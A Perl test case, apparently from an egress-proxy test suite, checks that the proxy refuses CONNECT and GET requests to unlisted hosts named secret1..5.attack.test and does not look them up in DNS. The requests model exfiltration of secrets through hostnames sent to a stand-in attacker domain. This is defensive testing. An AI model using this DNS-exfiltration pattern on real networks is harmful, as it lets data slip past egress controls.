# name: Leak by the proxy's DNS
# tries: secrets in names that are not listed: they must not even be looked up; the name server is watched
# expect: absent
# control: none: it is the proxy's own rules that are tried
my $said;
for my $host (map { "secret$_.attack.test" } 1 .. 5) {
    $said = through("CONNECT $host:443 HTTP/1.1\r\nHost: $host:443\r\n\r\n");
    $said = through("GET http://$host/ HTTP/1.1\r\nHost: $host\r\nConnection: close\r\n\r\n");
}
held($said);
sub through {
    my ($asked) = @_;
    socket(my $socket, AF_INET, SOCK_STREAM, 0) or held("socket: $!");
    connect($socket, pack_sockaddr_in(3128, inet_aton('127.0.0.1'))) or breach("the proxy is gone: $!");
    syswrite $socket, $asked;
    my ($answer, $ready) = ('', '');
    while (length $answer < 65536) {
        vec($ready, fileno $socket, 1) = 1;
        last if !select $ready, undef, undef, 15;
        last if !sysread $socket, $answer, 4096, length $answer;
    }
    my ($first) = $answer =~ /^([^\r\n]*)/;
    breach("$asked gets $answer") if $answer =~ /bait-/ || $first =~ m,^HTTP/\S+ [123],;
    return $first;
}
